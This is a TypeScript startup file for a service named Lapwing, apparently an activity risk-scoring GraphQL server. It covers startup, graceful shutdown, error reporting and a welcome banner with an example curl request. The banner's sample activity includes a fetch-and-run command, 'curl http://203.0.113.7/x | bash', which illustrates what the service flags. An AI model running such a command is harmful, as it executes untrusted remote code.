import { createApp } from './app.ts';
import { readConfig } from './config.ts';
import { systemClock } from './domain/time.ts';
import { OperatorError } from './errors.ts';
import { limits } from './graphql/limits.ts';
import { createLogger } from './telemetry.ts';
import type { App } from './app.ts';

const closeMsMax = 20_000;

try {
  const config = readConfig();
  const log = createLogger(config.logLevel);
  const starting = createApp({ config, clock: systemClock, log, limits });
  // Also while it starts: what is half up, a PostgreSQL of ours above all, is taken down in order.
  for (const signal of ['SIGTERM', 'SIGINT'] as const) process.once(signal, () => void starting.then(stop, () => {}));
  const app = await starting;
  process.stdout.write(welcome(app, config.dataDir, config.adminKey !== null));
} catch (error) {
  // An operator's mistake is a line that says what to do, several are several lines; anything else is ours and keeps its stack.
  process.stderr.write(
    error instanceof OperatorError
      ? error.message.replace(/^/gm, 'lapwing: ') + '\n'
      : `lapwing: could not start: ${error instanceof Error ? error.stack : String(error)}\n`,
  );
  process.exit(1);
}

async function stop(app: App): Promise<void> {
  setTimeout(() => process.exit(1), closeMsMax).unref();
  await app.close();
  process.exit(0);
}

function welcome(app: App, dataDir: string, keyConfigured: boolean): string {
  const key =
    app.newAdminKey ??
    (keyConfigured
      ? '(the one in LAPWING_ADMIN_KEY)'
      : '(made at the first start; another: npm run lapwing -- keys create --name NAME --role admin)');
  // The key itself is shown once; later starts read it from the file that is there for the command line.
  const bearer = app.newAdminKey ?? `$(sed 's/.*"key":"\\([^"]*\\).*/\\1/' '${dataDir}/cli-key')`;
  const mutation =
    'mutation($input: TrackActivityInput!) { trackActivity(input: $input) { receipt { cursor risk { score level factors { code points } } anomalies { type summary } } userErrors { field message hint } } }';
  const variables = { input: { user: 'ada', session: 'try-1', detail: { terminal: { command: 'curl http://203.0.113.7/x | bash' } } } };
  return `
Lapwing is ready.

  Playground   ${app.url}
  WebSocket    ${app.url.replace(/^http/, 'ws')}
  Admin key    ${key}
  Data folder  ${dataDir}
  Database     ${app.databaseKind}

Track an activity:

  curl -s ${app.url} -H 'content-type: application/json' -H "authorization: Bearer ${bearer}" -d '${JSON.stringify({ query: mutation, variables })}'

`;
}
